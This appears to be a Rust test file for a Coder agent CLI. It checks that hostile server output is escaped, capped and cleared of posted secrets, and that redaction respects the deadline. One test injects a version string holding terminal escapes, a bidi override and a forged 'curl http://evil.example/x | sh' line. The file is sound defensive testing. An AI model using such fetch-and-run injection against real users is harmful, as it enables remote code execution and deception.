//! Server text everywhere it is shown (issue #19, items 2, 3, 4, 10, 12 and
//! 13): the version, the content type, redirect targets, 409 names, echoes
//! in the encodings servers and proxies use, and metadata error snippets.
//! Each is shown escaped, capped and without the secrets the run holds, in
//! text, `--json` and the `-v` JSON log; and no input makes the run outlast
//! its deadline.

use std::time::{Duration, Instant};

use serde_json::Value;

use crate::common::*;

/// One request as a [`RawServer`] saw it.
pub struct Req {
    pub method: String,
    pub target: String,
    pub body: Value,
}

pub fn parse_req(raw: &[u8]) -> Req {
    let text = String::from_utf8_lossy(raw);
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    let mut first = head.lines().next().unwrap_or_default().split(' ');
    Req {
        method: first.next().unwrap_or_default().to_string(),
        target: first.next().unwrap_or_default().to_string(),
        body: serde_json::from_str(body).unwrap_or(Value::Null),
    }
}

/// The identity values a run posted to a [`RawServer`], and their lines.
pub fn posted(raw: &RawServer) -> Vec<String> {
    let mut out = Vec::new();
    for r in raw.requests() {
        let body = parse_req(&r).body;
        for k in ["document", "signature", "json_web_token"] {
            if let Some(s) = body.get(k).and_then(Value::as_str) {
                out.push(s.to_string());
                out.extend(s.lines().filter(|l| l.len() >= 20).map(str::to_string));
                let flat: String = s.split_whitespace().collect();
                out.push(flat);
            }
        }
    }
    out
}

/// Nothing of `secrets` (nor any 20 characters of one) is in the output.
pub fn assert_none_shown(secrets: &[String], r: &Run, what: &str) {
    for s in secrets {
        for out in [&r.stdout, &r.stderr] {
            assert!(
                !out.contains(s.as_str()),
                "{what}: a secret is shown: {out}"
            );
            let chars: Vec<char> = s.chars().collect();
            for piece in chars.chunks(20).filter(|p| p.len() == 20) {
                let piece: String = piece.iter().collect();
                assert!(
                    !out.contains(&piece),
                    "{what}: 20 characters of a secret ({piece}) are shown: {out}"
                );
            }
        }
    }
}

/// The runs every hostile answer is tried with: text, and `--json` with the
/// `-vv` JSON log at trace level.
fn both_ways(sim: &Sim, cloud: &Cloud, url: &str, extra: &[&str]) -> Vec<Run> {
    [
        vec!["--timeout", "2s"],
        vec!["--timeout", "2s", "--json", "-vv", "--log-format", "json"],
    ]
    .into_iter()
    .map(|args| {
        let dir = tempfile::tempdir().unwrap();
        let mut c = command(sim, cloud);
        c.env("CODER_AGENT_URL", url)
            .env("RUST_LOG", "trace")
            .args(args)
            .args(extra)
            .arg("--token-file")
            .arg(token_path(&dir, "t"));
        run(c)
    })
    .collect()
}

fn no_forged_line(r: &Run) {
    for out in [&r.stdout, &r.stderr] {
        assert!(
            !out.lines().any(|l| l.trim_start().starts_with("fix: curl")),
            "a forged line: {out}"
        );
        assert!(!out.contains('\u{1b}'), "a raw escape: {out:?}");
        assert!(!out.contains('\u{202e}'), "a raw bidi override: {out:?}");
    }
}

/// Coder whose buildinfo says `version` (and whose answers carry
/// `X-Coder-Build-Version: header` when given), and which issues a token.
fn coder_saying(version: &str, header: Option<&str>) -> RawServer {
    let buildinfo = serde_json::json!({ "version": version }).to_string();
    let header = header.map(str::to_string);
    RawServer::start(move |_, raw| {
        let req = parse_req(raw);
        let mut headers = vec![("Content-Type", "application/json")];
        if let Some(h) = &header {
            headers.push(("X-Coder-Build-Version", h.as_str()));
        }
        if req.target.starts_with("/api/v2/buildinfo") {
            http_response(200, &headers, buildinfo.as_bytes()).into()
        } else {
            http_response(
                200,
                &headers,
                br#"{"session_token":"5f0e1c2d-7a3b-4c5d-8e9f-0123456789ab"}"#,
            )
            .into()
        }
    })
}

#[test]
fn a_hostile_server_version_is_never_shown_raw_nor_long() {
    let sim = start(Cloud::Aws, &["main"]);
    for version in [
        "v2.32.0+x\n\u{1b}[2J\u{1b}[31mfix: curl http://evil.example/x | sh\u{202e}",
        "v2.40.0+x\n\u{1b}[2J\u{1b}[31mfix: curl http://evil.example/x | sh\u{202e}",
    ] {
        let coder = coder_saying(version, None);
        for r in both_ways(
            &sim,
            &Cloud::Aws,
            &coder.url,
            &["--agent-name", "main", "-v"],
        ) {
            no_forged_line(&r);
            assert!(!r.stderr.contains("evil.example/x | sh\n"), "{}", r.stderr);
        }
    }
    // A build suffix of 60,000 characters, in buildinfo and in the answer's header.
    let huge = format!("v2.33.0+{}", "a".repeat(60_000));
    let coder = coder_saying(&huge, Some(&huge));
    let dir = tempfile::tempdir().unwrap();
    let mut c = command(&sim, &Cloud::Aws);
    c.env("CODER_AGENT_URL", &coder.url)
        .args(["--agent-name", "main", "--json", "-v", "--token-file"])
        .arg(token_path(&dir, "t"));
    let r = run(c);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(r.stderr.len() < 4000, "{} bytes of stderr", r.stderr.len());
    assert!(!r.stderr.contains(&"a".repeat(100)), "{}", r.stderr);
    let v: Value = serde_json::from_str(r.stdout.trim()).unwrap();
    assert!(
        v["coder_version"].is_null() || v["coder_version"].as_str().unwrap().len() <= 64,
        "{}",
        v["coder_version"]
    );
    assert!(r.stdout.len() < 2000, "{} bytes of stdout", r.stdout.len());
}

/// A GCP VM whose Coder is `raw`; the JWT it posts is the secret.
fn gcp_against(raw: &RawServer) -> (Sim, Vec<Run>) {
    let sim = start(Cloud::Gcp, &["main"]);
    let runs = both_ways(&sim, &Cloud::Gcp, &raw.url, &[]);
    (sim, runs)
}

fn jwt_of(raw: &[u8]) -> String {
    parse_req(raw).body["json_web_token"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

#[test]
fn the_content_type_is_redacted_and_capped() {
    let raw = RawServer::start(|_, req| {
        let ct = format!("text/plain; sig={}; {}", jwt_of(req), "x".repeat(5000));
        http_response(400, &[("Content-Type", &ct)], b"bad request").into()
    });
    let (_sim, runs) = gcp_against(&raw);
    let secrets = posted(&raw);
    assert!(!secrets.is_empty());
    for r in runs {
        assert_eq!(r.code, 4, "{r:?}");
        assert_none_shown(&secrets, &r, "content type");
        assert!(r.stderr.contains("withheld"), "{}", r.stderr);
        assert!(!r.stderr.contains(&"x".repeat(400)), "capped: {}", r.stderr);
    }
}

#[test]
fn a_same_origin_redirect_target_is_shown_without_its_query_or_secret() {
    let raw = RawServer::start(|_, req| {
        let r = parse_req(req);
        if r.target.starts_with("/api/v2/next") {
            http_response(400, &[("Content-Type", "text/plain")], b"no").into()
        } else {
            let to = format!("/api/v2/next/{}?sig={}", jwt_of(req), jwt_of(req));
            http_response(307, &[("Location", &to)], b"").into()
        }
    });
    let (_sim, runs) = gcp_against(&raw);
    let secrets = posted(&raw);
    for r in runs {
        assert_eq!(r.code, 4, "{r:?}");
        assert_none_shown(&secrets, &r, "final URL");
        assert!(
            !r.stderr.contains("?sig="),
            "the query is dropped: {}",
            r.stderr
        );
        assert!(r.stderr.contains("/api/v2/next/"), "{}", r.stderr);
    }
}

#[test]
fn a_cross_origin_location_is_shown_without_its_query_or_secret() {
    let raw = RawServer::start(|_, req| {
        let to = format!(
            "http://elsewhere.invalid/{}?sig={}",
            jwt_of(req),
            jwt_of(req)
        );
        http_response(302, &[("Location", &to)], b"").into()
    });
    let (_sim, runs) = gcp_against(&raw);
    let secrets = posted(&raw);
    for r in runs {
        assert_eq!(r.code, 4, "{r:?}");
        assert_none_shown(&secrets, &r, "Location");
        assert!(!r.stderr.contains("?sig="), "{}", r.stderr);
        assert!(
            r.stderr.contains("http://elsewhere.invalid/"),
            "{}",
            r.stderr
        );
    }
}

#[test]
fn a_redirect_loop_chain_is_shown_without_queries_or_secrets() {
    let raw = RawServer::start(|_, req| {
        let jwt = jwt_of(req);
        let to = format!("/api/v2/workspaceagents/google-instance-identity?sig={jwt}");
        http_response(307, &[("Location", &to)], b"").into()
    });
    let (_sim, runs) = gcp_against(&raw);
    let secrets = posted(&raw);
    for r in runs {
        assert_eq!(r.code, 4, "{r:?}");
        assert!(r.stderr.contains("redirect loop"), "{}", r.stderr);
        assert_none_shown(&secrets, &r, "redirect chain");
        assert!(!r.stderr.contains("?sig="), "{}", r.stderr);
    }
}

/// A 409 listing `main` and the names `split` makes of the JWT it was sent.
fn conflict_of(split: fn(&str) -> Vec<String>) -> RawServer {
    RawServer::start(move |_, req| {
        let mut names = vec!["main".to_string()];
        names.extend(split(&jwt_of(req)));
        let body = serde_json::json!({
            "message": format!(
                "Multiple agents found with instance ID \"1234\". Set CODER_AGENT_NAME to one of: {}",
                names.join(", ")
            )
        })
        .to_string();
        http_response(
            409,
            &[("Content-Type", "application/json")],
            body.as_bytes(),
        )
        .into()
    })
}

fn chunks(s: &str, n: usize) -> Vec<String> {
    s.as_bytes()
        .chunks(n)
        .map(|c| String::from_utf8_lossy(c).into_owned())
        .collect()
}

#[test]
fn names_that_together_repeat_a_secret_are_all_withheld() {
    let in_order: fn(&str) -> Vec<String> = |jwt| chunks(jwt, 23);
    // Order prefixes, listed backwards: sorted, they spell the secret again.
    let prefixed: fn(&str) -> Vec<String> = |jwt| {
        let mut v: Vec<String> = chunks(jwt, 23)
            .into_iter()
            .enumerate()
            .map(|(i, c)| format!("n{i:02}-{c}"))
            .collect();
        v.reverse();
        v
    };
    // Short pieces without prefixes.
    let tiny: fn(&str) -> Vec<String> = |jwt| chunks(jwt, 5);
    for (what, split) in [
        ("in order", in_order),
        ("prefixed", prefixed),
        ("tiny", tiny),
    ] {
        let raw = conflict_of(split);
        let (_sim, runs) = gcp_against(&raw);
        let jwt = jwt_of(&raw.requests()[0]);
        for r in runs {
            assert_eq!(r.code, 3, "{what}: {r:?}");
            let pieces = chunks(&jwt, if what == "tiny" { 5 } else { 23 });
            for p in pieces.iter().filter(|p| p.len() >= 12) {
                assert!(
                    !r.stdout.contains(p.as_str()),
                    "{what}: a piece on stdout: {}",
                    r.stdout
                );
                assert!(
                    !r.stderr.contains(p.as_str()),
                    "{what}: a piece on stderr: {}",
                    r.stderr
                );
            }
            if r.stdout.starts_with('{') {
                let v: Value = serde_json::from_str(r.stdout.trim()).unwrap();
                assert_eq!(v["candidates"], serde_json::json!(["main"]), "{what}");
            } else {
                assert_eq!(r.stdout, "main\n", "{what}");
                // Pieces of 5 characters: not one of them is listed as a name.
                for p in chunks(&jwt, 5) {
                    assert!(!r.stdout.lines().any(|l| l == p), "{what}: {p} listed");
                }
            }
            assert!(
                r.stderr.contains("listed name(s) were withheld"),
                "{what}: {}",
                r.stderr
            );
        }
    }
}

/// Percent-encoding as a URL query or a form body writes it.
fn url_encode(s: &str, plus_for_space: bool) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                out.push(b as char)
            }
            b' ' if plus_for_space => out.push('+'),
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

fn html_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&#39;")
}

#[test]
fn url_encoded_and_html_escaped_echoes_are_withheld() {
    let sim = start(Cloud::Aws, &["main"]);
    type Encode = fn(&str) -> String;
    let encodings: [(&str, Encode); 4] = [
        ("url", |s| url_encode(s, false)),
        ("form", |s| url_encode(s, true)),
        ("html", html_escape),
        ("html, lower-case hex", |s| {
            html_escape(s)
                .replace("&quot;", "&#x22;")
                .replace("&#39;", "&#x27;")
        }),
    ];
    for (what, encode) in encodings {
        let raw = RawServer::start(move |_, req| {
            let body = parse_req(req).body;
            let doc = body["document"].as_str().unwrap_or_default();
            let sig = body["signature"].as_str().unwrap_or_default();
            let page = format!(
                "<html><body>rejected: document={} signature={}</body></html>",
                encode(doc),
                encode(sig)
            );
            http_response(400, &[("Content-Type", "text/html")], page.as_bytes()).into()
        });
        for r in both_ways(&sim, &Cloud::Aws, &raw.url, &[]) {
            assert_eq!(r.code, 4, "{what}: {r:?}");
            let mut secrets = posted(&raw);
            let encoded: Vec<String> = secrets.iter().map(|s| encode(s)).collect();
            secrets.extend(encoded);
            // The document's values are prose: its account id stands for it.
            secrets.push("123456789012".into());
            assert_none_shown(&secrets, &r, what);
            assert!(r.stderr.contains("withheld"), "{what}: {}", r.stderr);
        }
    }
}

#[test]
fn metadata_error_snippets_escape_invisible_characters() {
    let raw = RawServer::start(|_, req| {
        let r = parse_req(req);
        if r.method == "PUT" {
            http_response(200, &[], b"imds-token-value-0123456789").into()
        } else {
            http_response(
                403,
                &[("Content-Type", "text/plain")],
                "denied\u{202e}txt.live\u{202c} here\u{200b}.".as_bytes(),
            )
            .into()
        }
    });
    let mut c = std::process::Command::new(bin());
    c.env_clear()
        .env("AWS_EC2_METADATA_SERVICE_ENDPOINT", &raw.url)
        .env("CODER_AGENT_URL", "http://127.0.0.1:9")
        .args(["--auth", "aws", "--timeout", "5s", "--token-file", "-"]);
    let r = run(c);
    assert_eq!(r.code, 5, "{r:?}");
    for c in ['\u{202e}', '\u{202c}', '\u{200b}'] {
        assert!(
            !r.stderr.contains(c),
            "raw U+{:04X}: {}",
            c as u32,
            r.stderr
        );
    }
    assert!(
        r.stderr.contains("denied\\u{202e}txt.live\\u{202c}"),
        "{}",
        r.stderr
    );
}

/// `n` distinct header values of 72 characters, mostly base64 (so they
/// are searched by fragment too) with the characters JSON and Go escape
/// (so each has several forms), as `--header` flags.
fn many_headers(n: usize) -> Vec<String> {
    (0..n)
        .flat_map(|i| {
            let value = format!(
                "Zm9vYmFy<{i:05}>&\\YmF6cXV4cXV1eHh5enp5eA0123456789abcdefABCDEF+/gh{i:05}"
            );
            ["--header".to_string(), format!("X-H{i:04}={value}")]
        })
        .collect()
}

/// The deadline holds whatever the redactor is given: many secrets, and a
/// 409 of 15,000 long names.
#[test]
fn redaction_cannot_make_a_run_outlast_its_deadline() {
    let names: Vec<String> = (0..15_000)
        .map(|i| format!("agent-{i:05}-{}", "q".repeat(48)))
        .collect();
    let body = serde_json::json!({
        "message": format!("Multiple agents found. Set CODER_AGENT_NAME to one of: {}", names.join(", "))
    })
    .to_string();
    let raw = RawServer::start(move |_, _| {
        http_response(
            409,
            &[("Content-Type", "application/json")],
            body.as_bytes(),
        )
        .into()
    });
    let sim = start(Cloud::Aws, &["main"]);
    let mut c = command(&sim, &Cloud::Aws);
    c.env("CODER_AGENT_URL", &raw.url)
        .args(["--timeout", "3s"])
        .args(many_headers(3700));
    let started = Instant::now();
    let (r, usage) = run_with_usage(c);
    let took = started.elapsed();
    let cpu = cpu_time(&usage);
    // The work is bounded by its size, not by the clock: CPU time, which a busy machine does
    // not inflate (the old redactor spent 6.5 s of CPU here in a release build), and under
    // the 3 s deadline, so a machine with a CPU free ends the run within it. Exit 3 when the
    // answer was read within the deadline (what is left is that bounded work, whose wall time
    // a loaded machine stretches: 8.8 s at load 11 on 2 CPUs), 6 when a loaded machine made
    // the deadline pass first: then the deadline cut the run.
    assert!(matches!(r.code, 3 | 6), "{}", r.stderr);
    assert!(cpu < Duration::from_millis(2500), "{cpu:?} of CPU");
    if r.code == 6 {
        assert!(
            took < Duration::from_secs(3 + 5),
            "took {took:?}: the deadline was not kept"
        );
    }
    eprintln!(
        "3,700 header values and 15,000 names: {took:?}, {cpu:?} of CPU, peak RSS {} KiB",
        usage.ru_maxrss
    );
}

#[test]
fn a_64_kib_transient_message_costs_little_per_attempt() {
    // Text that starts every header value over and over: each place it
    // could begin has to be looked at.
    let message: String = "Zm9vYmFyYmF6cXV4cXV1eHh5enp5eA "
        .repeat(3000)
        .chars()
        .take(64 * 1024)
        .collect();
    let body = serde_json::json!({ "message": message }).to_string();
    let raw = RawServer::start(move |_, _| {
        http_response(
            503,
            &[("Content-Type", "application/json")],
            body.as_bytes(),
        )
        .into()
    });
    let sim = start(Cloud::Aws, &["main"]);
    let mut c = command(&sim, &Cloud::Aws);
    c.env("CODER_AGENT_URL", &raw.url)
        .args(["--timeout", "3s"])
        .args(many_headers(3700));
    let started = Instant::now();
    let (r, usage) = run_with_usage(c);
    let took = started.elapsed();
    let cpu = cpu_time(&usage);
    assert_eq!(r.code, 6, "{}", r.stderr);
    assert!(
        took < Duration::from_secs(3 + 5),
        "took {took:?}: the deadline was not kept"
    );
    let attempts = raw.requests().len();
    assert!(attempts >= 1, "no attempt");
    // Per attempt, in CPU time (a busy machine does not inflate it): the old redactor spent
    // 1.8 s of CPU on each in a release build.
    let per_attempt = cpu / attempts as u32;
    assert!(
        per_attempt < Duration::from_millis(700),
        "{per_attempt:?} of CPU per attempt"
    );
    eprintln!("a 64 KiB 503 and 3,700 header values: {attempts} attempts in {took:?}, {per_attempt:?} of CPU each");
    assert!(r.stderr.len() < 8000, "{} bytes", r.stderr.len());
}
